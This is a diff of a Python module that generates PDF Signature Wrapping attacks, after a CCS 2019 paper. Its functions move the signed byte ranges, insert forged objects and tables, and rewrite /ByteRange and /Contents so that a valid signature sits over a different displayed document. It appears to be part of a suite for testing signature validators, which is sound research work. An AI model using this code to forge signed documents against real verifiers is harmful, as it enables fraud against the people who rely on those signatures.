@@ -1,10 +1,15 @@
-"""SWA: signed bytes are moved aside and others take their place (CCS 2019, §4.3)."""
+"""SWA: signed bytes are moved aside and others take their place (CCS 2019, §4.3).
+
+The second signed part begins behind the hole and ends with the file. It is moved back, the byte
+range follows it, and where its table stood before stands one of the attacker: ``startxref``, which
+is signed, leads there. So the digest may hold, and still another document is shown.
+"""
 
 import re
 
 from attacks import writer
 from attacks.incremental import FORGED
-from attacks.victim import Victim
+from attacks.victim import LEADER, LEADER_VALUE, Victim
 from attacks.writer import write_objects, write_table
 
 _RANGE = re.compile(rb"/ByteRange\[0 (\d{10}) (\d{10}) (\d{10})\]")
@@ -20,76 +25,78 @@ def parts(pdf: bytes) -> tuple[int, int, int, int]:
     return start, stop, rest, found.start(1)
 
 
-def _wrapped(pdf: bytes, between: bytes, *, padding: int) -> bytes:
-    """Move the second signed part back and put other bytes in front of it."""
+def _table(victim: Victim, body: bytes, forged: dict[int, int]) -> bytes:
+    """Write the table that takes the place of the signed one, without its end."""
+    pdf = victim.led
+    own = {number: pdf.rindex(b"\n%d 0 obj" % number) + 1 for number in (LEADER, LEADER_VALUE)}
+    before = writer.newest_section(victim.prepare())
+    whole = write_table(body, {**own, **forged}, previous=before)
+    return whole[len(body) : whole.rindex(b"startxref")]
+
+
+def _wrapped(victim: Victim, *, padding: int, objects_first: bool = False) -> bytes:
+    """Put forged objects and a table between the hole and the moved part."""
+    pdf = victim.led
     start, stop, rest, at = parts(pdf)
-    gap = b"\n" + between + b"\n" * padding
-    moved = pdf[:stop] + gap + pdf[stop : stop + rest]
-    return moved[:at] + b"%010d %010d" % (start, stop + len(gap)) + moved[at + 21 :]
-
-
-def _evil(pdf: bytes, offset: int) -> tuple[bytes, int]:
-    """Return forged objects with a table, as they stand at an offset, and where the table is."""
-    shift = b" " * offset
-    body, places = write_objects(shift, FORGED)
-    whole = write_table(body, dict(places), previous=writer.newest_section(pdf))
-    return whole[offset:], len(body)
+    place = writer.newest_section(pdf)
+    head = pdf[:place]
+    length = len(_table(victim, head, dict.fromkeys(FORGED, 0)))
+    body, places = write_objects(head + b" " * length, FORGED)
+    between = head + _table(victim, head, places) + body[len(head) + length :]
+    if objects_first:
+        # The forged objects behind all that is signed: nothing but the table stands between.
+        between = head + _table(victim, head, {})
+    moved = between + b"\n" * padding
+    whole = moved + pdf[stop : stop + rest]
+    whole = whole[:at] + b"%010d %010d" % (start, len(moved)) + whole[at + 21 :]
+    return whole
 
 
 def without_padding(victim: Victim) -> bytes:
-    """Variant 1: the forged part stands straight behind the hole, the range names the new place."""
-    pdf = victim.led
-    between, _ = _evil(pdf, parts(pdf)[1] + 1)
-    return _wrapped(pdf, between, padding=0)
+    """Variant 1: forged objects and table stand straight before the moved part."""
+    return _wrapped(victim, padding=0)
 
 
 def with_padding(victim: Victim) -> bytes:
-    """Variant 2: with padding between the forged and the moved part."""
-    pdf = victim.led
-    between, _ = _evil(pdf, parts(pdf)[1] + 1)
-    return _wrapped(pdf, between, padding=512)
+    """Variant 2: padding stands between them and the moved part."""
+    return _wrapped(victim, padding=512)
 
 
-def with_end_inside(victim: Victim) -> bytes:
-    """Variant 3: the moved part is no more than bytes behind a complete file."""
-    pdf = victim.led
-    between, table = _evil(pdf, parts(pdf)[1] + 1)
-    whole = _wrapped(pdf, between, padding=0)
-    return whole + b"startxref\n%d\n%%%%EOF\n" % table
+def with_update(victim: Victim) -> bytes:
+    """Variant 3: the signed part is moved, and the forged objects are an update behind it."""
+    return writer.append(_wrapped(victim, padding=0, objects_first=True), FORGED)
 
 
-def range_kept(victim: Victim) -> bytes:
-    """The forged part replaces signed bytes, which are appended at the end."""
-    pdf = victim.led
-    start, stop, rest, at = parts(pdf)
-    between, _ = _evil(pdf, stop)
-    size = max(rest, len(between))
-    whole = pdf[:stop] + between.ljust(size) + pdf[stop : stop + rest]
-    return whole[:at] + b"%010d %010d" % (start, stop + size) + whole[at + 21 :]
+def range_not_moved(victim: Victim) -> bytes:
+    """The part is moved, but the byte range still says the old place."""
+    wrapped = _wrapped(victim, padding=0)
+    _, stop, _, at = parts(victim.led)
+    return wrapped[: at + 11] + b"%010d" % stop + wrapped[at + 21 :]
 
 
 def contents_moved(victim: Victim) -> bytes:
-    """/Contents stands behind its hole, which is empty but for forged objects."""
+    """/Contents stands at the end of its hole; what is in front of it is for objects of others."""
     pdf = victim.led
     start, stop, _, _ = parts(pdf)
-    hole = pdf[start:stop]
-    between, _ = _evil(pdf, start)
-    return pdf[:start] + between.ljust(stop - start) + hole + pdf[stop:]
+    key = pdf.rindex(b"/Contents", 0, start)
+    digits = pdf[start + 1 : stop - 1].rstrip(b"0")
+    contents = b"/Contents<%s>" % (digits + b"0" * (len(digits) % 2))
+    return pdf[:key] + b"/Contentz<>".ljust(stop - key - len(contents)) + contents + pdf[stop:]
 
 
 def second_hole(victim: Victim) -> bytes:
     """The range names three parts, so that two are left out."""
     pdf = victim.led
     start, stop, rest, at = parts(pdf)
-    wide = b"/ByteRange[0 %d 500 %d %d %d]" % (400, start - 500, stop, rest)
-    return pdf[: at - 13] + wide + pdf[at + 33 :]
+    wide = b"[0 9 10 %d %d %d]" % (start - 10, stop, rest)
+    return pdf[: at - 3] + wide.ljust(36) + pdf[at + 33 :]
 
 
 ATTACKS = {
     "swa-without-padding": without_padding,
     "swa-with-padding": with_padding,
-    "swa-with-end-inside": with_end_inside,
-    "swa-range-kept": range_kept,
+    "swa-with-update": with_update,
+    "swa-range-not-moved": range_not_moved,
     "swa-contents-moved": contents_moved,
     "swa-second-hole": second_hole,
 }
